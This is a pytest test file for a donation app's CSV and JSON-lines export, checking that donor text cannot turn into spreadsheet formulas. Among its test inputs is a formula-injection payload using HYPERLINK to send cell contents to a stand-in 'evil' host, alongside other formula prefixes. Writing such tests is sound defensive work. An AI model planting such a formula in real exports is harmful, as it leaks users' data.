"""Export rows survive what donors write, and spreadsheets compute none of it."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from streamer_app.core.exports import BYTE_ORDER_MARK, Form, body, harmless, head

WORDS = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=40)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/?"&A1;"klik")',
        "+62811",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
    ],
)
def test_words_that_a_spreadsheet_would_compute_are_kept_as_words(text: str) -> None:
    assert harmless(text) == f"'{text}" or harmless(text).startswith(f"'{text[0]}'")
    assert harmless(f"  {text}").startswith("'") or text[0] in "\t\r\n"


@pytest.mark.parametrize("text", ["Budi", "a=b", "budi@mail", "1-2", "", "Rp-", "semangat - ya"])
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
def test_another_separator_does_not_uncover_a_formula(separator: str) -> None:
    assert harmless(f"Budi{separator}=1+1") == f"Budi{separator}'=1+1"


@given(WORDS)
def test_no_cell_begins_a_formula_whatever_a_donor_writes(text: str) -> None:
    for cell in harmless(text).replace("\t", ";").replace("\n", ";").replace("\r", ";").split(";"):
        assert not cell.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


@given(st.lists(st.tuples(WORDS, WORDS), max_size=5))
def test_csv_reads_back_as_it_was_written(rows: list[tuple[str, str]]) -> None:
    written = head(Form.CSV, ("a", "b"), byte_order_mark=False) + body(Form.CSV, ("a", "b"), rows)
    read = list(csv.reader(io.StringIO(written.decode("utf-8"), newline=""), strict=True))
    assert read == [["a", "b"], *[list(row) for row in rows]]
    assert written.endswith(b"\r\n")


@given(st.lists(st.tuples(WORDS, st.none() | WORDS), max_size=5))
def test_json_lines_read_back_one_object_a_line(rows: list[tuple[str, str | None]]) -> None:
    written = body(Form.JSON_LINES, ("a", "b"), rows)
    assert [json.loads(line) for line in written.splitlines()] == [{"a": a, "b": b} for a, b in rows]


def test_the_byte_order_mark_is_for_csv_and_can_be_left_away() -> None:
    assert head(Form.CSV, ("a",), byte_order_mark=True) == BYTE_ORDER_MARK + b"a\r\n"
    assert head(Form.CSV, ("a",), byte_order_mark=False) == b"a\r\n"
    assert head(Form.JSON_LINES, ("a",), byte_order_mark=True) == b""
